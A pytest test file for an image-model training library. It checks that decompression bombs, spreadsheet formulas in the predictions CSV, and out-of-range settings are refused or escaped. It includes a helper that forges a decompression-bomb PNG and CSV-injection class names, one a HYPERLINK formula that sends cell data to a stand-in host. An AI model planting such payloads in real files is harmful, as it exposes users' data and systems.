"""Careless inputs, round three: decompression bombs, formulas in predict's CSV, out-of-range
loader and image sizes, an existing folder as --output, task names too long for their adapter
file, and a config-free library call that can never switch a layer on."""
import csv
import os
import re
import subprocess
import sys
import warnings
import zlib
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

import taps_lightning as tl
from taps_lightning.errors import OutputError, SettingsError
from datamodules import CorruptImageError
from datamodules.check import check
from datamodules.folder import ImageFolderTasks
from datamodules.images import ImageListDataset, collate_skipping_none, decode_rgb
from experiments import predict
from experiments.fit import main as fit_main
from taps_lightning.errors import TapsError

ROOT = Path(__file__).resolve().parents[2]
TEST_RESNET = ["--model.backbone", "test_resnet", "--model.weights", "null"]


def write_bomb(path: Path, width: int = 20000, height: int = 20000) -> Path:
    """A PNG whose header says ``width`` x ``height`` (a few hundred bytes on disk), as a
    decompression bomb: a 1x1 PNG with its IHDR size (and CRC) rewritten."""
    Image.new("L", (1, 1)).save(path)
    data = bytearray(path.read_bytes())
    data[16:24] = width.to_bytes(4, "big") + height.to_bytes(4, "big")
    data[29:33] = zlib.crc32(bytes(data[12:29])).to_bytes(4, "big")
    path.write_bytes(bytes(data))
    return path


def _image(path: Path, colour: int = 0) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.fromarray(np.full((16, 16, 3), colour, np.uint8)).save(path)
    return path


def _folder_tasks(root: Path, task: str = "shapes") -> Path:
    for split in ("train", "test"):
        for cls, colour in (("dark", 0), ("light", 250)):
            for i in range(2):
                _image(root / task / split / cls / f"{i}.png", colour)
    return root


def test_decompression_bomb_is_named_skipped_when_asked_and_listed_by_check(tmp_path):
    bomb = write_bomb(tmp_path / "bomb.png")
    with pytest.raises(CorruptImageError, match=rf"{bomb}: too large to decode .*decompression bomb.*skip_corrupt"):
        decode_rgb(bomb)
    good = _image(tmp_path / "good.png")
    dataset = ImageListDataset([(str(bomb), 0), (str(good), 1)], transform=np.asarray, skip_corrupt=True)
    with pytest.warns(UserWarning, match=r"skipped corrupt image .*bomb.png: Image size \(400000000 pixels\)"):
        images, labels = collate_skipping_none([dataset[0], dataset[1]])
    assert dataset.skipped == [str(bomb)] and labels.tolist() == [1]
    # check lists the bomb and goes on to the next problem
    root = _folder_tasks(tmp_path / "data")
    write_bomb(root / "shapes" / "train" / "dark" / "huge.png")
    (root / "shapes" / "test" / "light" / "broken.png").write_bytes(b"not a png")
    lines = []

    class Out:
        def write(self, text):
            lines.append(text)

    problems = check(ImageFolderTasks(str(root), num_workers=0), out=Out())
    assert len(problems) == 2, problems
    assert "huge.png: too large to decode" in problems[0] and "broken.png: cannot decode" in problems[1]
    assert any("shapes: 2 classes" in line for line in lines)


def test_datamodules_check_command_lists_a_bomb_without_a_traceback(tmp_path):
    root = _folder_tasks(tmp_path / "data")
    write_bomb(root / "shapes" / "train" / "dark" / "huge.png")
    result = subprocess.run([sys.executable, "-m", "datamodules.check", "imagefolder", str(root)], cwd=ROOT,
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr[-2000:]
    assert "PROBLEM " in result.stdout and "huge.png: too large to decode" in result.stdout


@pytest.fixture
def task_file(tmp_path):
    """A test_resnet task whose class names would run as spreadsheet formulas."""
    model = tl.create_taps_model("test_resnet", {"evil": 5})
    names = ['=HYPERLINK("http://x.example/?"&A1,"ok")', "+1+1", "-2+3", "@SUM(A1)", "plain"]
    return tl.save_task(model, "evil", tmp_path / "evil.safetensors", class_names=names)


def test_predict_escapes_formulas_and_refuses_a_folder_as_output(task_file, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    image = _image(tmp_path / "images" / "=1+1.png", 128)
    common = TEST_RESNET + ["--tasks_from", str(task_file), "--images", str(image), "--trainer.enable_progress_bar",
                            "false"]
    (tmp_path / "out").mkdir()
    with pytest.raises(OutputError, match=r"--output .*out: is a folder, not the predictions CSV; give another path"):
        predict.main(common + ["--output", str(tmp_path / "out")])
    out = predict.main(common + ["--output", str(tmp_path / "p.csv"), "--top_k", "5"])
    rows = list(csv.reader(open(out)))
    cells = [c for row in rows[1:] for c in (row[:2] + row[2::2])]
    assert not [c for c in cells if c[:1] in "=+-@"], cells
    assert sorted(rows[1][2::2]) == sorted(["'=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "'+1+1", "'-2+3",
                                            "'@SUM(A1)", "plain"])
    assert rows[1][0] == str(image)  # an absolute path starts with '/': left as it is


@pytest.mark.slow
def test_predict_names_a_bomb_without_a_traceback(task_file, tmp_path):
    bomb = write_bomb(tmp_path / "bomb.png")
    result = subprocess.run([sys.executable, "-m", "experiments.predict", *TEST_RESNET, "--tasks_from", str(task_file),
                             "--images", str(bomb), "--output", str(tmp_path / "p.csv")], cwd=tmp_path,
                            env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True, timeout=300)
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr[-3000:]
    assert f"{bomb}: cannot decode image (Image size (400000000 pixels) exceeds limit" in result.stderr
    assert not (tmp_path / "p.csv").exists()


@pytest.mark.parametrize("flag, value, message", [
    ("batch_size", "0", r"--data.init_args.batch_size must be an integer >= 1 .*got 0"),
    ("image_size", "10000", r"--data.init_args.image_size must be an integer from 8 to 4096 .*got 10000"),
    ("resize_to", "0", r"--data.init_args.resize_to must be an integer from 8 to 4096 .*got 0"),
    ("eval_batch_size", "-1", r"--data.init_args.eval_batch_size must be an integer >= 1"),
    ("max_train_per_task", "0", r"--data.init_args.max_train_per_task must be an integer >= 1, or null"),
    ("num_workers", "-2", r"--data.init_args.num_workers must be an integer >= 0"),
])
def test_out_of_range_data_sizes_are_refused_before_any_folder(flag, value, message, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SettingsError, match=message):
        fit_main(TEST_RESNET + [f"--data.init_args.{flag}", value])
    assert not (tmp_path / "logs").exists()


def test_image_folder_sizes_are_checked_too(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SettingsError, match=r"invalid settings:\n  - --data.init_args.batch_size .*got 0\n  - "
                                         r"--data.init_args.image_size .* got 10000"):
        fit_main(TEST_RESNET + ["--data", "ImageFolderTasks", "--data.init_args.root", str(tmp_path),
                                "--data.init_args.batch_size", "0", "--data.init_args.image_size", "10000"])
    assert not (tmp_path / "logs").exists()


def test_a_task_name_too_long_for_its_adapter_file_is_refused_before_training(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("TAPS_RUN_VERSION", raising=False)
    long_name = "t" * 240
    root = _folder_tasks(tmp_path / "data", task=long_name)
    with pytest.raises(TapsError, match=r"task name\(s\) 'tttt.*\.\.\.' too long: the adapter file <task>.safetensors"):
        fit_main(TEST_RESNET + ["--data", "ImageFolderTasks", "--data.init_args.root", str(root),
                                "--data.init_args.image_size", "32", "--data.init_args.num_workers", "0"])
    assert not list((tmp_path / "logs" / "taps").glob("version_*"))  # the claimed folder is given back


def test_library_warns_when_no_layer_can_ever_switch_on(tmp_path):
    import timm

    with pytest.warns(tl.core.config.StartsOffWarning,
                      match=r"score_init 0.15 < threshold 0.5: every layer of task 'a' starts off"):
        tl.TapsModel(timm.create_model("test_resnet"), {"a": 3}, threshold=0.5, score_init=0.15)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        carrier = tl.TapsModel(timm.create_model("test_resnet"), threshold=0.5)  # no task yet: nothing starts off
        source = tl.create_taps_model("test_resnet", {"b": 2}, threshold=0.5, score_init=0.6)
        # a task loaded from a file brings its own scores: no warning
        tl.load_task(carrier, tl.save_task(source, "b", tmp_path / "b.safetensors"), strict_base=False)
    with pytest.warns(tl.core.config.StartsOffWarning, match="task 'c'"):
        carrier.add_task("c", 4)


def test_a_task_folder_name_the_model_cannot_hold_is_refused_plainly(tmp_path, monkeypatch, capsys):
    from taps_lightning.errors import run_command

    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("TAPS_RUN_VERSION", raising=False)
    root = _folder_tasks(tmp_path / "data", task="stanford cars")
    with pytest.raises(SystemExit) as info:  # raised inside jsonargparse's link, which wraps it: still plain
        run_command(fit_main, TEST_RESNET + ["--data", "ImageFolderTasks", "--data.init_args.root", str(root),
                                             "--data.init_args.num_workers", "0"])
    err = capsys.readouterr().err
    assert info.value.code == 2 and "Traceback" not in err
    assert re.search(r"^task name\(s\) \['stanford cars'\] .*Rename the folder\(s\), e.g. 'stanford cars' -> 'stanford_cars'$",
                     err.strip()), err
    assert not list((tmp_path / "logs" / "taps").glob("version_*"))


@pytest.mark.parametrize("args, message", [
    # exactly the one problem (a setting the CLI passes as null, e.g. the penalty, is resolved first)
    (["--model.threshold", "0"], r"invalid settings:\n  - --model.threshold \(tau\) must be a finite number > 0[^\n]*$"),
    (["--model.budget", "0.2", "--model.lr", "-1"], r"invalid settings:\n  - --model.lr must be a finite number > 0, "
                                                     r"got -1.0$"),
    (["--model.mode", "dora"], r"--model.mode: unknown mode 'dora'; choose one of incremental, joint"),
    (["--data", "ImageFolderTasks", "--data.init_args.root", "{root}", "--data.init_args.tasks", "[nope]"],
     r"unknown task\(s\) \['nope'\] for ImageFolderTasks \(--data.init_args.tasks\); available: \['shapes'\]"),
    (["--data", "ImageFolderTasks", "--data.init_args.root", "{root}/missing"], r"missing: data folder not found"),
])
def test_user_errors_end_with_their_message_not_a_traceback(args, message, tmp_path, monkeypatch, capsys):
    from taps_lightning.errors import EXIT_USER_ERROR, run_command

    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("TAPS_RUN_VERSION", raising=False)
    root = _folder_tasks(tmp_path / "data")
    with pytest.raises(SystemExit) as info:
        run_command(fit_main, TEST_RESNET + [a.format(root=root) for a in args])
    assert info.value.code == EXIT_USER_ERROR
    err = capsys.readouterr().err
    assert re.search(message, err.strip(), re.M) and "Traceback" not in err, err
    assert not list((tmp_path / "logs" / "taps").glob("version_*"))


@pytest.mark.slow
def test_fit_command_prints_a_setting_error_without_a_traceback(tmp_path):
    result = subprocess.run([sys.executable, "-m", "experiments.fit", *TEST_RESNET, "--model.threshold", "0"],
                            cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True,
                            timeout=300)
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr[-3000:]
    assert "--model.threshold (tau) must be a finite number > 0" in result.stderr


def test_weights_and_checkpoint_paths_that_are_no_files_are_named(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SettingsError, match=r"--model.weights .*missing.pth: no such file; give a local"):
        fit_main(["--model.backbone", "test_resnet", "--model.weights", str(tmp_path / "missing.pth")])
    with pytest.raises(SettingsError, match=r"--model.weights .*: is a folder"):
        fit_main(["--model.backbone", "test_resnet", "--model.weights", str(tmp_path)])
    with pytest.raises(TapsError, match=r"--ckpt_path: .*: is a folder; give a .ckpt file in it"):
        fit_main(TEST_RESNET + ["--ckpt_path", str(tmp_path)])
    assert not (tmp_path / "logs").exists()


def test_a_task_named_twice_is_used_once():
    from datamodules import EmbeddedDigits

    assert EmbeddedDigits(tasks=["mnist", "sketch", "mnist"]).tasks == ["mnist", "sketch"]
